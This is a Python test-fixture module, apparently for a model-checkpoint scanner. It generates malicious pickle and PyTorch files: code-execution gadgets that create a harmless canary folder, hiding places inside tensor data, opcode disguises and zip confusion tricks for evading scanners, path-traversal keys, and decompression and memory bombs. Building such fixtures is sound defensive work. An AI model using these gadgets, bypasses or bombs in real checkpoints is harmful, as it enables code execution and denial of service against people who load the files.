"""Checkpoints that mean harm: payloads that leave a canary when they run, hiding places
for them, and bombs.

A payload makes a folder at the path of its canary, by whatever road; the roads are
those of published exploits and scanner bypasses. Nothing worse is ever written down
here.
"""

from __future__ import annotations

import functools
import io
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from tests.support.containers import (
    STORAGE,
    Call,
    Name,
    Raw,
    legacy,
    opcodes,
    pickled,
    storage,
    tensor,
    zipped,
)

Maker = Callable[[str], bytes]
"""Takes the canary's path, gives a checkpoint."""


def payloads(canary: str) -> dict[str, Any]:
    """Ways to run something. Each value, unpickled by Python, makes the canary or at
    least calls what it names.
    """
    shell, python = (
        f"mkdir -p {canary}",
        f"import os; os.makedirs({canary!r}, exist_ok=True)",
    )
    getattr_ = functools.partial(Call, "builtins.getattr")
    import_ = functools.partial(Call, "builtins.__import__")
    nested = pickle.dumps(_Mkdir(canary), 2)

    def call(function: Any, *args: Any) -> Raw:
        return Raw(opcodes(function) + opcodes(args) + b"R")

    return {
        "os_system": Call("os.system", shell),
        "posix_system": Call("posix.system", shell),
        "os_mkdir": Call("os.mkdir", canary),
        "os_popen": Call("os.popen", shell),
        "os_spawn": Call("os.spawnlp", 0, "mkdir", "mkdir", canary),
        "subprocess_popen": Call("subprocess.Popen", ["mkdir", canary]),
        "subprocess_run": Call("subprocess.run", ["mkdir", canary]),
        "subprocess_getoutput": Call("subprocess.getoutput", shell),
        "exec": Call("builtins.exec", python),
        "eval": Call("builtins.eval", f"__import__('os').mkdir({canary!r})"),
        "python2_eval": Call("__builtin__.eval", f"__import__('os').mkdir({canary!r})"),
        "compiled": call(
            Name("builtins", "exec"), Call("builtins.compile", python, "x", "exec")
        ),
        "import_and_getattr": call(getattr_(import_("os"), "mkdir"), canary),
        "importlib": call(
            getattr_(Call("importlib.import_module", "os"), "mkdir"), canary
        ),
        "dotted_name": call(Name("os", "path.os.mkdir"), canary),
        "through_numpy": call(Name("numpy", "os.mkdir"), canary),
        "through_torch": call(Name("torch.serialization", "os.mkdir"), canary),
        "through_shutil": call(Name("shutil", "os.mkdir"), canary),
        "through_logging": call(Name("logging", "os.mkdir"), canary),
        "attrgetter": call(Call("operator.attrgetter", "mkdir"), import_("os")),
        "methodcaller": call(
            Call("operator.methodcaller", "mkdir", canary), import_("os")
        ),
        "partial": call(Call("functools.partial", Name("os", "mkdir"), canary)),
        "reduce": Call("functools.reduce", Name("os", "makedirs"), [canary, 0o777]),
        "map": Call(
            "builtins.list", Call("builtins.map", Name("os", "mkdir"), [canary])
        ),
        "getattr_of_path": call(getattr_(Call("pathlib.PosixPath", canary), "mkdir")),
        "runpy": Call(
            "runpy._run_code", Call("builtins.compile", python, "x", "exec"), {}
        ),
        "timeit": Call(
            "timeit.timeit",
            python,
            Raw(b"X\x04\x00\x00\x00pass"),
            Name("time", "time"),
            1,
        ),
        "cprofile": Call("cProfile.run", python),
        "pdb": Call("pdb.run", python),
        "trace": call(getattr_(Call("trace.Trace"), "run"), python),
        "code": call(
            getattr_(Call("code.InteractiveInterpreter"), "runsource"), python
        ),
        "pty": Call("pty.spawn", ["mkdir", canary]),
        "ctypes": call(getattr_(Call("ctypes.CDLL", None), "system"), shell.encode()),
        "io_open": Call("io.open", canary, "w"),
        "file_io": Call("_io.FileIO", canary, "w"),
        "log_file": Call("logging.FileHandler", canary),
        "tempfile": Call("tempfile.mkdtemp", "", "canary", None),
        "sqlite": Call("sqlite3.connect", canary),
        "socket": Call("socket.socket"),
        "urlopen": Call("urllib.request.urlopen", "http://127.0.0.1:9/"),
        "asyncio": Call("asyncio.run", Call("asyncio.create_subprocess_shell", shell)),
        "webbrowser": Call("webbrowser.open", "http://127.0.0.1:9/"),
        "marshal": Call("types.FunctionType", Call("marshal.loads", b"N"), {}),
        "pickle_in_pickle": Call("pickle.loads", nested),
        "torch_load": Call(
            "torch.load", Call("io.BytesIO", zipped(nested, {})), None, None
        ),
        "load_from_bytes": Call(
            "torch.storage._load_from_bytes", legacy(_raw(nested), {})
        ),
        "torch_jit": Call("torch.jit.load", canary),
        "torch_hub": Call("torch.hub.load", canary, "x"),
        "torch_inductor": Call("torch._inductor.codecache.PyCodeCache.load", python),
        "torch_fx": Call(
            "torch.fx.graph_module.reduce_graph_module", {"_code": python}, python
        ),
        "torch_config": Call(
            "torch.utils._config_module.ConfigModule.load_config", nested
        ),
        "numpy_load": Call("numpy.load", canary),
        "numpy_runstring": Call("numpy.testing._private.utils.runstring", python, {}),
        "joblib": Call("joblib.load", canary),
        "dill": Call("dill._dill._create_function", b"", {}),
        "cloudpickle": Call("cloudpickle.cloudpickle._make_function", b"", {}),
        "pip": Call("pip.main", ["--version"]),
        "python2_commands": Call("commands.getoutput", shell),
        "sys_modules": call(getattr_(Name("sys", "modules"), "get"), "os"),
        "setattr": Call("builtins.setattr", Name("builtins", "len"), "x", 1),
        "breakpoint": Call("builtins.breakpoint"),
    }


def hiding_places() -> dict[str, Callable[[Any], Any]]:
    """Where a payload can sit among honest weights; each function gives the value to
    pickle.
    """
    in_call = functools.partial(Call, "torch._utils._rebuild_tensor_v2")
    parts = (storage("0"), 0, (4,), (1,), False)
    hooks = Call("collections.OrderedDict")
    return {
        "as_the_value": lambda evil: evil,
        "beside_tensors": lambda evil: {"weight": tensor(), "note": evil},
        "as_a_key": lambda evil: {evil: tensor()},
        "in_a_list_of_a_tuple": lambda evil: {"weight": tensor(), "more": [(evil,)]},
        "as_hooks": lambda evil: {"weight": tensor(hooks=evil)},
        "as_metadata": lambda evil: {"weight": in_call(*parts, hooks, evil)},
        "as_shape": lambda evil: {
            "weight": in_call(parts[0], 0, evil, (1,), False, hooks)
        },
        "as_storage": lambda evil: {"weight": in_call(evil, *parts[1:], hooks)},
        "as_storage_type": lambda evil: {
            "weight": in_call(
                Raw(opcodes(("storage", evil, "0", "cpu", 4)) + b"Q"), *parts[1:], hooks
            )
        },
        "in_a_storage_id": lambda evil: {
            "weight": in_call(
                Raw(
                    opcodes(("storage", Name("torch", "FloatStorage"), evil, "cpu", 4))
                    + b"Q"
                ),
                *parts[1:],
                hooks,
            )
        },
        "as_rebuild_function": lambda evil: {
            "weight": Call(
                "torch._tensor._rebuild_from_type_v2",
                evil,
                Name("torch", "Tensor"),
                (*parts, hooks),
                {},
            )
        },
        "as_tensor_class": lambda evil: {
            "weight": Call(
                "torch._tensor._rebuild_from_type_v2",
                Name("torch._utils", "_rebuild_tensor_v2"),
                evil,
                (*parts, hooks),
                {},
            )
        },
        "as_tensor_state": lambda evil: {
            "weight": Call(
                "torch._utils._rebuild_parameter_with_state",
                tensor(),
                True,
                hooks,
                evil,
            )
        },
        "as_default_factory": lambda evil: {
            "weight": tensor(),
            "d": Call("collections.defaultdict", evil),
        },
        "as_state_of_a_dict": lambda evil: Call(
            "collections.OrderedDict", state={"_metadata": evil}
        ),
        "as_state_of_a_config": lambda evil: {
            "config": Call("project.Config", state={"lr": evil})
        },
        "as_numpy_dtype": lambda evil: {
            "lr": Call("numpy.core.multiarray.scalar", evil, b"\0" * 8)
        },
        "in_an_object_array": lambda evil: {
            "a": Call(
                "numpy.core.multiarray._reconstruct",
                Name("numpy", "ndarray"),
                (0,),
                b"b",
                state=(1, (1,), Call("numpy.dtype", "O8", False, True), False, [evil]),
            )
        },
        "in_a_module": lambda evil: Call(
            "torch.nn.modules.linear.Linear",
            state={
                "_parameters": {"weight": tensor()},
                "_buffers": {},
                "_modules": {"x": None},
                "hook": evil,
            },
        ),
        "as_the_maker_of_an_object": lambda evil: Call("copyreg.__newobj__", evil),
    }


def disguises(canary: str) -> dict[str, bytes]:
    """Pickles that hide the call of os.mkdir from those who look at opcodes; whole
    files.
    """
    length = struct.pack("<I", len(canary)).decode("latin1")
    mkdir = f"cos\nmkdir\n(X{length}{canary}tR".encode("latin1")
    text = opcodes(canary)
    call = b"cos\nmkdir\n" + text
    honest = opcodes({"weight": tensor()})
    evil_dict = b"}(" + opcodes("weight") + opcodes(tensor()) + opcodes("x")
    return {
        "inst_opcode": zipped(b"\x80\x02(" + text + b"ios\nmkdir\n."),
        "obj_opcode": zipped(b"\x80\x02(" + call + b"o."),
        "newobj_opcode": zipped(b"\x80\x02" + call + b"\x85\x81."),
        "newobj_ex_opcode": zipped(b"\x80\x04" + call + b"\x85}\x92."),
        "protocol_0": zipped(b"cos\nmkdir\n(V" + canary.encode() + b"\ntR."),
        "memoized_function": zipped(
            b"\x80\x02cos\nmkdir\nq\x00" + honest + b"0h\x00" + text + b"\x85R."
        ),
        "memo_overwritten": zipped(
            b"\x80\x02ccollections\nOrderedDict\nq\x00cos\nmkdir\nq\x000"
            + b"h\x00"
            + text
            + b"\x85R."
        ),
        "memo_by_text": zipped(
            b"\x80\x02cos\nmkdir\np70000\n0g70000\n" + text + b"\x85R."
        ),
        "memo_of_negative_index": zipped(
            b"\x80\x02cos\nmkdir\np-1\n0g-1\n" + text + b"\x85R."
        ),
        "result_popped": zipped(b"\x80\x02" + mkdir + b"0" + honest + b"."),
        "result_popped_to_mark": zipped(b"\x80\x02(" + mkdir + b"1" + honest + b"."),
        "duplicated": zipped(b"\x80\x02" + text + b"cos\nmkdir\n2(h" + b"\x00tR."),
        "in_frames": zipped(b"\x80\x04\x95" + struct.pack("<Q", 5) + mkdir + b"."),
        "tail_missing": zipped(b"\x80\x02" + mkdir),
        "tail_garbage": zipped(b"\x80\x02" + mkdir + b"\xff\xfe\xfd"),
        "tail_underflow": zipped(b"\x80\x02" + mkdir + b"00000."),
        "tail_second_pickle": zipped(
            pickled({"weight": tensor()}) + b"\x80\x02" + mkdir + b"."
        ),
        "proto_in_the_middle": zipped(b"\x80\x02\x80\x04" + mkdir + b"\x80\x02."),
        "extension_code": zipped(b"\x80\x02\x82\x01" + text + b"\x85R."),
        "odd_module_name": zipped(b"\x80\x02cos\x00\nmkdir\n" + text + b"\x85R."),
        "newline_in_name": zipped(
            pickled({"x": Raw(opcodes(Name("os", "mkdir\n\x1b[2J")) + b")R")})
        ),
        "state_sets_a_method": zipped(
            pickled(
                Call(
                    "project.Config",
                    state={"__class__": Name("os", "mkdir"), "__reduce__": canary},
                )
            )
        ),
        "after_setitem": zipped(b"\x80\x02" + evil_dict + mkdir + b"u."),
        "deflated_pickle": zipped(
            b"\x80\x02" + mkdir + b".", method=zipfile.ZIP_DEFLATED
        ),
        "legacy_value": legacy(Raw(mkdir), {}),
        "legacy_magic": legacy({"weight": tensor()}, magic=Raw(mkdir)),
        "legacy_version": legacy({"weight": tensor()}, version=Raw(mkdir)),
        "legacy_system": legacy({"weight": tensor()}, system=Raw(mkdir)),
        "legacy_keys": legacy({"weight": tensor()}, keys=Raw(mkdir)),
        "legacy_module_source": legacy(
            Raw(
                opcodes(("module", Name("os", "mkdir"), "/etc/passwd", "import os"))
                + b"Q"
                + text
                + b"\x85R"
            ),
            {},
        ),
        "plain_pickle": b"\x80\x02" + mkdir + b".",
        **_confused_archives(b"\x80\x02" + mkdir + b"."),
    }


def _confused_archives(evil: bytes) -> dict[str, bytes]:
    """Archives in which one reader finds the honest pickle and another the payload."""
    honest = pickled({"weight": tensor()})
    honest_zip, evil_zip = zipped(honest), zipped(evil)
    twice = io.BytesIO()
    with zipfile.ZipFile(twice, "w") as archive:
        archive.writestr("archive/data.pkl", honest)
        archive.writestr("archive/data.pk_", evil)
        archive.writestr("archive/data/0", STORAGE)
    renamed = twice.getvalue()
    directory = renamed.rindex(b"PK\x01\x02", 0, renamed.rindex(b"archive/data.pk_"))
    return {
        "same_name_twice": renamed.replace(b"archive/data.pk_", b"archive/data.pkl"),
        "local_name_differs": (
            renamed[:directory].replace(b"data.pk_", b"data.pkl") + renamed[directory:]
        ),
        "directory_name_differs": renamed.replace(b"data.pkl", b"data.pkX", 1),
        "directory_points_elsewhere": _patched_directory(
            renamed, b"archive/data.pkl", renamed.index(b"PK\x03\x04", 4)
        ),
        "sizes_differ": _patched_local_size(honest_zip, 7),
        "something_before": evil_zip[:-22] + honest_zip,
        "something_after": honest_zip + evil_zip,
        "archive_in_the_comment": (
            honest_zip[:-2] + struct.pack("<H", len(evil_zip)) + evil_zip
        ),
        "two_roots": zipped(honest, extra={"other/data.pkl": evil}),
        "backslash_root": zipped(
            honest, extra={"archive\\data.pkl": evil, "../../data.pkl": evil}
        ),
        "checksum_differs": honest_zip.replace(b"weight", b"weigh_", 1),
    }


def bombs() -> dict[str, bytes]:
    """Small files that would take gigabytes or hours."""
    laughs = (
        b"]"
        + b"("
        + opcodes("ha") * 10
        + b"e\x94"
        + b"".join(
            b"](" + b"h" + bytes([level]) + (b"h" + bytes([level])) * 9 + b"e\x94"
            for level in range(40)
        )
    )
    tuples = b"K\x01" + b"".join(b"2\x86" for _ in range(60))
    long_text = opcodes("x" * 1_000_000) + b"\x940"
    encode = (
        opcodes(Name("_codecs", "encode")) + b"\x940" + opcodes("latin1") + b"\x940"
    )
    many = b"](" + b"K\x01" * 100_000 + b"e\x940"
    prime = (1 << 61) - 1
    colliding = (
        b"}(" + b"".join(opcodes(k * prime) + b"N" for k in range(8, 30_000)) + b"u"
    )
    colliding_tuples = (
        b"}("
        + b"".join(opcodes((0, k * prime)) + b"N" for k in range(8, 30_000))
        + b"u"
    )
    huge = 10**13
    zeros = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = zeros.compress(bytes(64 << 20)) + zeros.flush()
    long_key = (
        opcodes("0" * 1_000_000)
        + b"\x940"
        + opcodes(Name("torch", "FloatStorage"))
        + b"\x940"
    )
    named_again = (
        b"(" + opcodes("storage") + b"h\x01h\x00" + opcodes("cpu") + b"K\x04tQ"
    )
    long_shape = (
        b"(" + b"K\x01" * 100_000 + b"t\x940" + opcodes(storage("0")) + b"\x940"
    )
    long_shape += opcodes(Name("torch._utils", "_rebuild_tensor")) + b"\x940"
    look_alike = opcodes(dict.fromkeys(range(50000))) + b"\x940"
    modules = (
        b"cx\ny\n)R}("
        + opcodes("_parameters")
        + b"h\x00"
        + opcodes("_buffers")
        + b"h\x00"
        + opcodes("_modules")
    )
    array = opcodes(
        Call("numpy.core.multiarray._reconstruct", Name("numpy", "ndarray"), (0,), b"b")
    )
    array += (
        b"(K\x01"
        + opcodes((1_000_000,))
        + opcodes(Call("numpy.dtype", "u1"))
        + b"\x89h\x00tb"
    )
    return {
        "shape_that_prints_forever": zipped(
            pickled({"w": tensor(shape=(Raw(tuples),))})
        ),
        "version_that_prints_forever": legacy(1, {}, version=Raw(tuples)),
        "one_shape_again_and_again": zipped(
            b"\x80\x04"
            + long_shape
            + b"]("
            + b"h\x02(h\x01K\x00h\x00h\x00tR" * 20_000
            + b"e."
        ),
        "one_key_again_and_again": zipped(
            b"\x80\x04" + long_key + b"](" + named_again * 20_000 + b"e."
        ),
        "one_text_as_many_arrays": zipped(
            b"\x80\x04" + long_text + b"](" + array * 5_000 + b"e."
        ),
        "look_alikes_of_modules": zipped(
            b"\x80\x04" + look_alike + b"](" + (modules + b"h\x00ub") * 20_000 + b"e."
        ),
        "many_short_lines": zipped(b"\x80\x02" + b"Va\n0" * 200_000 + b"N."),
        "billion_laughs": zipped(b"\x80\x04" + laughs + b"."),
        "doubled_tuples": zipped(b"\x80\x02" + tuples + b"."),
        "doubled_tuples_as_key": zipped(b"\x80\x02}" + tuples + b"Ns."),
        "colliding_integers": zipped(b"\x80\x02" + colliding + b"."),
        "colliding_tuples": zipped(b"\x80\x02" + colliding_tuples + b"."),
        "deep_lists": zipped(b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
        "deep_tuples": zipped(b"\x80\x02N" + b"\x85" * 200_000 + b"."),
        "deep_marks": zipped(b"\x80\x02" + b"(" * 200_000 + b"t" * 200_000 + b"."),
        "deep_calls": zipped(b"\x80\x02cx\ny\n" + b")R" * 100_000 + b"."),
        "deep_new_objects": zipped(
            b"\x80\x02ccopyreg\n__newobj__\n("
            + b"ccopyreg\n__newobj__\n" * 20_000
            + b"tR."
        ),
        "deep_states": zipped(
            b"\x80\x02" + b"cx\ny\n)R" * 30_000 + b"b" * 29_999 + b"."
        ),
        "list_in_itself": zipped(b"\x80\x02]q\x00h\x00a."),
        "dict_in_itself": zipped(b"\x80\x02}q\x00" + opcodes("x") + b"h\x00s."),
        "tuple_in_itself": zipped(b"\x80\x02]q\x00(h\x00tq\x01ah\x01."),
        "instance_in_itself": zipped(
            b"\x80\x02cx\ny\n)Rq\x00}" + opcodes("x") + b"h\x00sb."
        ),
        "module_in_itself": zipped(
            b"\x80\x02cx\ny\n)Rq\x00}("
            + opcodes("_parameters")
            + b"}"
            + opcodes("_buffers")
            + b"}"
            + opcodes("_modules")
            + b"}"
            + opcodes("x")
            + b"h\x00sub."
        ),
        "modules_doubled": zipped(
            b"\x80\x02"
            + b"".join(
                b"cx\ny\n)R}("
                + opcodes("_parameters")
                + b"}"
                + opcodes("_buffers")
                + b"}"
                + opcodes("_modules")
                + b"}"
                + (
                    b"("
                    + opcodes("a")
                    + b"j"
                    + struct.pack("<I", n - 1)
                    + opcodes("b")
                    + b"j"
                    + struct.pack("<I", n - 1)
                    + b"u"
                    if n
                    else b""
                )
                + b"ubr"
                + struct.pack("<I", n)
                for n in range(100)
            )
            + b"."
        ),
        "encoded_again_and_again": zipped(
            b"\x80\x04"
            + long_text
            + encode
            + b"]("
            + b"h\x01h\x00h\x02\x86R" * 50_000
            + b"e."
        ),
        "copied_again_and_again": zipped(
            b"\x80\x04"
            + many
            + opcodes(Name("builtins", "frozenset"))
            + b"\x940]("
            + b"h\x01h\x00\x85R" * 50_000
            + b"e."
        ),
        "joined_again_and_again": zipped(
            b"\x80\x04"
            + long_text
            + opcodes(Name("pathlib", "PurePosixPath"))
            + b"\x940]("
            + b"h\x01("
            + b"h\x00" * 50
            + b"tR"
            + b"h\x01(h\x00tR" * 20_000
            + b"e."
        ),
        "integer_of_a_gigabyte": zipped(
            b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + bytes(100) + b"."
        ),
        "integer_of_a_megabyte": zipped(
            b"\x80\x02\x8b" + struct.pack("<i", 1 << 20) + b"\x7f" * (1 << 20) + b"."
        ),
        "integer_of_negative_size": zipped(
            b"\x80\x02\x8b" + struct.pack("<i", -5) + bytes(9) + b"."
        ),
        "digits": zipped(b"I" + b"9" * 1_000_000 + b"\n."),
        "bytes_of_an_exabyte": zipped(
            b"\x80\x04\x8e" + struct.pack("<Q", 1 << 60) + b"."
        ),
        "text_of_an_exabyte": zipped(
            b"\x80\x04\x8d" + struct.pack("<Q", (1 << 64) - 1) + b"."
        ),
        "frame_of_an_exabyte": zipped(
            b"\x80\x04\x95" + struct.pack("<Q", 1 << 62) + b"N."
        ),
        "memo_of_four_billion": zipped(b"\x80\x02Nr\xff\xff\xff\xff."),
        "name_without_end": zipped(b"\x80\x02c" + b"a" * 1_000_000),
        "many_sets": zipped(b"\x80\x04](" + b"\x8f" * 100_000 + b"e."),
        "many_names": zipped(
            b"\x80\x02](" + b"".join(b"cm\n%d\n" % n for n in range(30_000)) + b"e."
        ),
        "tensor_of_ten_terabytes": zipped(pickled({"w": tensor(shape=(huge,))})),
        "tensor_repeated_to_ten_terabytes": zipped(
            pickled({"w": tensor(shape=(huge,), strides=(0,))})
        ),
        "tensors_repeated_to_ten_terabytes": zipped(
            pickled(
                {"w": [tensor(shape=(1 << 26,), strides=(0,)) for _ in range(4000)]}
            )
        ),
        "tensor_of_many_dimensions": zipped(
            pickled({"w": tensor(shape=(1,) * 100_000, strides=(1,) * 100_000)})
        ),
        "tensor_sizes_overflow": zipped(
            pickled({"w": tensor(shape=(1 << 32, 1 << 32), strides=(1 << 32, 1))})
        ),
        "tensor_before_its_storage": zipped(pickled({"w": tensor(offset=-4)})),
        "tensor_of_negative_strides": zipped(pickled({"w": tensor(strides=(-1,))})),
        "tensor_of_negative_shape": zipped(pickled({"w": tensor(shape=(-4,))})),
        "tensor_of_float_shape": zipped(pickled({"w": tensor(shape=(4.0,))})),
        "tensor_beyond_its_storage": zipped(pickled({"w": tensor(shape=(5,))})),
        "storage_of_ten_terabytes": zipped(pickled({"w": tensor(size=huge)})),
        "storage_missing": zipped(pickled({"w": tensor(key="../../etc/passwd")})),
        "storage_elsewhere": zipped(pickled({"w": tensor(key="../data.pkl")})),
        "legacy_storage_of_ten_terabytes": legacy({"w": tensor(size=huge)}, keys=["0"]),
        "legacy_storage_of_negative_size": legacy({"w": tensor()})[:-24]
        + struct.pack("<q", -1)
        + STORAGE,
        "legacy_storages_missing": legacy({"w": tensor()}, storages={}),
        "legacy_keys_repeated": legacy({"w": tensor()}, keys=["0"] * 100_000),
        "legacy_keys_unknown": legacy({"w": tensor()}, keys=["0", "1"]),
        "legacy_cut_short": legacy({"w": tensor()})[:-1],
        "zip_bomb_pickle": _with_deflated(
            b"archive/data.pkl", bomb, 64 << 20, claim=64 << 20
        ),
        "zip_bomb_lying": _with_deflated(
            b"archive/data.pkl", bomb, 64 << 20, claim=100
        ),
        "zip_bomb_of_ten_terabytes": _with_deflated(
            b"archive/data.pkl", bomb, 64 << 20, claim=0xFFFFFFF0
        ),
        "zip_entries_overlap": _overlapping(),
        "zip_claims_65534_entries": _patched_end(
            zipped(b"\x80\x02N."), 8, struct.pack("<2H", 65534, 65534)
        ),
        "zip_directory_of_4_gigabytes": _patched_end(
            zipped(b"\x80\x02N."), 12, struct.pack("<L", 0xFFFFFFF0)
        ),
        "zip_cut_short": zipped(pickled({"w": tensor()}))[:-30],
        "zip64_directory_of_an_exabyte": _zip64(1 << 60),
        "byte_order_of_a_megabyte": zipped(
            b"\x80\x02N.", extra={"archive/byteorder": b"l" * 1_000_000}
        ),
    }


class _Mkdir:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> Any:
        import os

        return os.mkdir, (self.path,)


def _raw(whole_pickle: bytes) -> Raw:
    return Raw(whole_pickle[2:-1])


def _patched_directory(archive: bytes, name: bytes, offset: int) -> bytes:
    """Have the directory's entry of a name point at another local header."""
    at = archive.rindex(name) - 46
    return archive[: at + 42] + struct.pack("<L", offset) + archive[at + 46 :]


def _patched_local_size(archive: bytes, size: int) -> bytes:
    return archive[:18] + struct.pack("<2L", size, size) + archive[26:]


def _patched_end(archive: bytes, at: int, data: bytes) -> bytes:
    start = len(archive) - 22 + at
    return archive[:start] + data + archive[start + len(data) :]


def _with_deflated(name: bytes, data: bytes, size: int, claim: int) -> bytes:
    local = (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            20,
            0,
            8,
            0,
            33,
            0,
            len(data),
            claim,
            len(name),
            0,
        )
        + name
        + data
    )
    directory = (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            33,
            0,
            len(data),
            claim,
            len(name),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name
    )
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), len(local), 0
    )
    return local + directory + end


def _overlapping() -> bytes:
    """Two names for one local header, whose own name is that of the first."""
    archive = zipped(pickled({"w": tensor()}))
    return _patched_directory(archive, b"archive/data/0", 0)


def _zip64(directory_size: int) -> bytes:
    archive = zipped(b"\x80\x02N.")
    end64 = struct.pack(
        "<4sQ2H2L4Q",
        b"PK\x06\x06",
        44,
        45,
        45,
        0,
        0,
        2,
        2,
        directory_size,
        len(archive) - directory_size if directory_size < len(archive) else 0,
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, len(archive) - 22, 1)
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0
    )
    return archive[:-22] + end64 + locator + end
